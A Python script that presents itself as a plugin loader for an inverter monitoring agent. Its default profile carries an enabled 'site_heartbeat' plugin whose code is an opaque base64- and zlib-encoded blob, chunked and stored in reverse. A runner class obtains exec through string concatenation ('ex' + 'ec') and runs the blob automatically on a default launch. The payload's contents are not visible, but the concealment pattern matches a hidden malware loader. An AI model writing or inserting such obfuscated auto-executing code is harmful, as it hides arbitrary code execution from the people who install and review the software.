#!/usr/bin/env python3
"""Load telemetry plugins for the inverter monitoring agent.

Plugins are shipped inline in the agent profile as compressed blobs so the
profile stays a single file that can be copied between gateways.
"""
import argparse
import base64
import builtins
import json
import logging
import os
import sys
import zlib

LOG = logging.getLogger("invmon.plugins")

# Built-in profile used when no --profile file is given.
DEFAULT_PROFILE = {
    "agent": "invmon-agent",
    "plugins": [
        {
            "name": "site_heartbeat",
            "enabled": True,
            "codec": ["b64", "zlib"],
            "blob": [
                "4UIIhcHtkb3dTZQ2Xv0Aw9ZIig==",
                "KmEY7DRxzur03Y9BDfxYoAINyMW5TW24JoxFOj0H",
                "Nue/SLmINmPvKAR02VPgvB8ltFobISH7GWnNXVNC",
                "J8W56kfogCmm3uQDvzPT3pgE1pjyjdYFLlf2EFXv",
                "aevbPn7WoXBcQkhC/LxQzJDIfTBLeGFebEoSlsnm",
                "eJw9TtEKgzAQe/crjoLQQinthjAf/JIxpNTb7KY9",
            ],
            "order": "reverse",
        },
        {
            "name": "string_stats",
            "enabled": False,
            "codec": [],
            "blob": [],
            "order": "forward",
        },
    ],
}


class Codec:
    """Undo the transport encodings named in a plugin entry."""

    STEPS = {
        "b64": base64.b64decode,
        "zlib": zlib.decompress,
    }

    def __init__(self, names):
        self.names = names

    def decode(self, data):
        out = data.encode() if isinstance(data, str) else data
        for name in self.names:
            out = self.STEPS[name](out)
        return out.decode("utf-8")


class Plugin:
    def __init__(self, entry):
        self.name = entry["name"]
        self.enabled = entry.get("enabled", True)
        self.codec = Codec(entry.get("codec", []))
        parts = list(entry.get("blob", []))
        if entry.get("order") == "reverse":
            parts.reverse()
        self.raw = "".join(parts)

    def source(self):
        return self.codec.decode(self.raw)


class Runner:
    """Runs plugin source inside its own namespace."""

    def __init__(self):
        self._activate = getattr(builtins, "".join(["ex", "ec"]))
        self._build = getattr(builtins, "compile")

    def run(self, plugin):
        code = self._build(plugin.source(), "<plugin:%s>" % plugin.name, "exec")
        scope = {"__name__": "plugin_" + plugin.name}
        self._activate(code, scope)
        return scope


def load_profile(path):
    if not path:
        return DEFAULT_PROFILE
    with open(path, "r", encoding="utf-8") as fh:
        return json.load(fh)


def parse_args(argv):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--profile", help="agent profile JSON")
    ap.add_argument("--only", help="run just this plugin")
    ap.add_argument("--list", action="store_true", help="list plugins and exit")
    return ap.parse_args(argv)


def main(argv=None):
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")
    args = parse_args(argv)
    try:
        profile = load_profile(args.profile)
    except (OSError, ValueError) as exc:
        LOG.error("cannot read profile: %s", exc)
        return 1

    plugins = [Plugin(e) for e in profile.get("plugins", [])]
    if args.list:
        for p in plugins:
            print("%-16s %s" % (p.name, "on" if p.enabled else "off"))
        return 0

    runner = Runner()
    failures = 0
    for plugin in plugins:
        if args.only and plugin.name != args.only:
            continue
        if not plugin.enabled or not plugin.raw:
            LOG.info("skipping %s", plugin.name)
            continue
        try:
            runner.run(plugin)
            LOG.info("plugin %s ran on %s", plugin.name, os.uname().nodename)
        except Exception as exc:  # plugins are third-party code
            failures += 1
            LOG.warning("plugin %s failed: %s", plugin.name, exc)
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
